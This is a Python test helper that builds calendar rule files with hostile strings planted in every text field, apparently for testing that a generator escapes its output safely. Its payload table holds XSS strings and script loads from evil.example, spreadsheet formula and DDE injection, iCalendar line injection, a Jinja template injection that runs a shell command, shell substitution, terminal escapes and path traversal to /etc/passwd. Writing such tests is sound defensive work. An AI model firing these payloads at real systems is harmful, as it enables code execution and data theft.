"""Rule files that mean harm: in each field that takes a text something that would act if it were
let through, in HTML, SVG, CSV, iCalendar, a template, a terminal or a path.
"""

import json
import random
from collections.abc import Iterator
from typing import NamedTuple

ACTS: dict[str, tuple[str, ...]] = {
    "markup": (
        "<script>alert(1)</script>",
        "</title></style></script><script src=//evil.example></script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "' autofocus onfocus='alert(1)",
        '" onmouseover="alert(1)" x="',
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "--><script>alert(1)</script><!--",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "</svg><style>*{background:url(//evil.example)}</style>",
        "<a href=javascript:alert(1)>x</a>",
        "&lt;script&gt;&#60;script&#62;",
        "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><form action=//evil.example><input name=a>",
    ),
    "formula": (
        '=HYPERLINK("//evil.example")',
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "x\n=1+1",
        '","=1+1","',
        "x;=1+1",
    ),
    "calendar": (
        "x\r\nBEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT",
        "x\nATTACH;FMTTYPE=text/html:http://evil.example",
        "x\\nEND:VCALENDAR\\n",
        "x" * 70 + "\r\n BEGIN:VALARM",
        "\u2028BEGIN:VALARM\u2029ACTION:PROCEDURE\x85",
        ":;,\\\\n",
        '";X-EVIL="1',
        "^n^'^^",
    ),
    "template": (
        "{{ 7*7 }}",
        "{% include '/etc/passwd' %}",
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
        "{# x #}{%- raw -%}",
        "${7*7} #{7*7} <%= 7*7 %> %(x)s %s {0} {x.__class__}",
        "$(touch PWNED) `touch PWNED` ; touch PWNED",
    ),
    "terminal": (
        "\x1b[2J\x1b[31m",
        "\x1b]0;evil\x07",
        "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x9b31m\x08\x08\x7f",
        "\u202egnp.exe\u202c\u2066x\u2069",
        "\u200bx\ufeffx\u00ad",
        "\0\x01\x02",
        "\U000e0041\U000e007f",
        "Z" + "\u0300" * 200,
    ),
    "path": (
        "../../../../etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "..\\..\\evil.bat",
        "CON",
        "a/../../b",
        "%2e%2e%2f",
        "\\\\evil.example\\share",
    ),
    "size": ("x" * 20_000, "\u0645" * 5_000, "a b " * 5_000, "\U0001f600" * 3_000),
}
"""Kinds of harm, and texts that would do it."""

# Each @ is a text; @~ is one inside of quotes.
RULES = """\
calendar-gen: 1
title: @
sources:
  gazette: {publisher: @, published: 2021-01-01, title: @}
  leaf: {publisher: Leaf, published: 2026-02-01, title: @, url: "https://example.org/a?b=@~"}
parties:
  - {id: northwick, name: {en: @, ru: @}}
commemorations:
  - id: founding
    title: [{until: 1991, en: @, ru: @}, {en: @, ru: @}]
    of: 1945-05-09
    host: northwick
    place: @
    note: {en: @}
    categories: [remembrance, @]
    exceptions:
      - {cycle: 2026, moved-to: 2026-05-10, because: @, sources: [gazette]}
      - {cycle: 2027, renamed: {en: @, ru: @}, because: @, sources: [leaf]}
    sources: [gazette, leaf]
reciprocal_visits:
  - id: exchange
    title: {en: @, ru: @}
    pattern: dated
    guest: CN
    host: northwick
    at: founding
    every: 5
    note: @
    sources: [gazette]
visits:
  - id: seen
    guest: CN
    host: northwick
    person: @
    note: @
    claims:
      - {date: 2020-05-09, status: occurred, source: gazette, place: @, note: @, preferred: true,
         because: @}
      - {date: 2020-05-12, status: occurred, source: leaf, note: @}
"""
HARMLESS = "Plain words"


class Hostile(NamedTuple):
    """A file, and the kinds of what it holds."""

    content: bytes
    kinds: tuple[str, ...]


def written(texts: Iterator[str]) -> bytes:
    """The rules with a text in each field; in an address without its blanks."""
    whole, *parts = RULES.split("@")
    for part in parts:
        text = next(texts)
        if part.startswith("~"):
            whole += _quoted("".join(text.split()))[1:-1] + part[1:]
        else:
            whole += _quoted(text) + part
    return whole.encode()


def _quoted(text: str) -> str:
    """A text in double quotes, with JSON's escapes but for what these write in two halves."""
    return "".join(
        f"\\U{ord(each):08x}" if ord(each) > 0xFFFF else json.dumps(each)[1:-1] for each in text
    ).join('""')


def harmless() -> bytes:
    return written(iter([HARMLESS] * RULES.count("@")))


def hostile(number: int) -> Hostile:
    """The hostile file of that number: some of its texts do harm, of one kind or of several."""
    chance = random.Random(f"hostile {number}")
    kinds = list(ACTS)
    chosen = tuple(chance.sample(kinds, chance.choice((1, 1, 2, len(kinds)))))
    share = chance.choice((0.1, 0.5, 1.0))

    def texts() -> Iterator[str]:
        while True:
            if chance.random() < share:
                yield chance.choice(ACTS[chance.choice(chosen)])
            else:
                yield HARMLESS

    return Hostile(written(texts()), chosen)
